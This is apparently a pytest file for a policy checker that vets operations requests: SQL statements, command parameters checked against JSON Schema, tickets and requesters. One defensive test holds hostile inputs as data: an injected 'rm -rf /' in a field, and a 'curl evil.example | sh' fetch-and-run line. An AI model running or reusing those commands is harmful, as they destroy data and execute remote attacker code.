"""Action requests judged offline by their policy: the action offered, its input the kind the
action takes, SQL statements allowed, parameters matching the action's schema, the ticket and
the requester."""

from __future__ import annotations

from typing import Any

import pytest

from jitops.action_policy import check_action
from jitops.models import ActionRequest, Policy, PolicyChangeRule, Target
from jitops.policy import PolicySet

TARGETS = [
    Target.model_validate(
        {
            "apiVersion": "jitops/v1",
            "kind": "Target",
            "name": name,
            "provisioner": kind,
            "roles": ["readonly"],
        }
    )  # fmt: skip
    for name, kind in (("sandbox-db", "postgres"), ("jobs", "exec"))
]


def policies(**actions: dict[str, Any]) -> PolicySet:
    policy = Policy.model_validate(
        {
            "apiVersion": "jitops/v1",
            "kind": "Policy",
            "name": "ops",
            "targets": ["sandbox-db", "jobs"],
            "requesters": ["alice", "@acme/oncall"],
            "actions": actions,
        }
    )
    rule = PolicyChangeRule.model_validate(
        {"apiVersion": "jitops/v1", "kind": "PolicyChangeRule",
         "approvals": [{"from": ["@acme/security"]}]}
    )  # fmt: skip
    return PolicySet.build([policy], TARGETS, rule)


APPROVED = {"approvals": [{"count": 1, "from": ["@acme/db-leads"]}]}
FIX = {"sql": {"allow": ["update"], "max_rows_affected": 1}, **APPROVED}
RESTART = {
    "command": {
        "parameters": {
            "type": "object",
            "properties": {"service": {"enum": ["export", "billing"]}},
            "required": ["service"],
            "additionalProperties": False,
        }
    },
    **APPROVED,
}


def ask(action: str = "fix", target: str = "sandbox-db", **fields: Any) -> ActionRequest:
    return ActionRequest.model_validate(
        {
            "apiVersion": "jitops/v1",
            "kind": "ActionRequest",
            "id": "act-1",
            "requester": "alice",
            "target": target,
            "action": action,
            "justification": "Order 1002 is stuck in payment",
            **fields,
        }
    )


def test_an_allowed_sql_action_carries_its_reviewed_statements() -> None:
    check = check_action(
        ask(sql="UPDATE orders SET state = 'paid' WHERE id = 1002;"), policies(fix=FIX)
    )
    assert check.allowed and check.policy == "ops"
    assert check.sql is not None and check.sql.kinds == ("update",)


def test_an_action_no_policy_offers_lists_those_offered() -> None:
    [problem] = check_action(ask("drop-all", sql="select 1"), policies(fix=FIX)).problems
    assert problem.message == "no policy offers action 'drop-all' on sandbox-db"
    assert problem.hint == "its actions are: fix" and problem.at == ("action",)


def test_the_input_must_be_the_kind_the_action_takes() -> None:
    set_ = policies(fix=FIX, restart=RESTART)
    no_sql = check_action(ask(params={"service": "export"}), set_).problems
    assert {p.at for p in no_sql} == {("params",), ()}
    sql_to_command = check_action(ask("restart", "jobs", sql="select 1"), set_).problems
    assert any("takes `params`, not `sql`" in p.message for p in sql_to_command)


@pytest.mark.attack(3, "pass a command action parameters its schema does not allow")
@pytest.mark.parametrize(
    "params, words",
    [
        ({"service": "export; rm -rf /"}, "is not one of"),
        ({"service": "export", "command": "curl evil.example | sh"}, "Additional properties"),
        ({}, "'service' is a required property"),
    ],
)
def test_command_parameters_must_match_the_action_s_schema(
    params: dict[str, Any], words: str
) -> None:
    """Attack (a command line through the parameters): requesters never supply a command;
    anything the action's JSON Schema does not describe is refused, at its field."""
    problems = check_action(
        ask("restart", "jobs", params=params), policies(restart=RESTART)
    ).problems
    assert any(words in p.message for p in problems), problems
    assert all(p.at[:1] == ("params",) for p in problems)


def test_the_ticket_and_the_requester_are_the_policy_s() -> None:
    rule = {**FIX, "ticket": {"required": True, "pattern": "INC-[0-9]+"}}
    missing = check_action(ask(sql="UPDATE t SET a = 1"), policies(fix=rule)).problems
    assert [p.message for p in missing] == ["the action requires a ticket"]
    wrong = check_action(ask(sql="UPDATE t SET a = 1", ticket="TODO"), policies(fix=rule))
    assert "does not match INC-[0-9]+" in wrong.problems[0].message

    policy = Policy.model_validate(
        {"apiVersion": "jitops/v1", "kind": "Policy", "name": "ops", "targets": ["sandbox-db"],
         "requesters": ["bob"], "actions": {"fix": FIX}}
    )  # fmt: skip
    stranger = check_action(ask(sql="UPDATE t SET a = 1"), PolicySet.build([policy], TARGETS))
    assert stranger.problems[0].message == (
        "@alice may not ask for fix on sandbox-db under policy ops"
    )


def test_an_action_rule_is_sql_or_a_command_and_approved_somehow() -> None:
    with pytest.raises(ValueError, match="exactly one"):
        Policy.model_validate(
            {"apiVersion": "jitops/v1", "kind": "Policy", "name": "p", "targets": ["t"],
             "requesters": ["a"], "actions": {"x": APPROVED}}
        )  # fmt: skip
    with pytest.raises(ValueError, match="has no `approvals`"):
        Policy.model_validate(
            {"apiVersion": "jitops/v1", "kind": "Policy", "name": "p", "targets": ["t"],
             "requesters": ["a"], "actions": {"x": {"sql": {"allow": ["select"]}}}}
        )  # fmt: skip
    with pytest.raises(ValueError, match="is not a JSON Schema"):
        Policy.model_validate(
            {"apiVersion": "jitops/v1", "kind": "Policy", "name": "p", "targets": ["t"],
             "requesters": ["a"],
             "actions": {"x": {"command": {"parameters": {"type": "nonsense"}}, **APPROVED}}}
        )  # fmt: skip
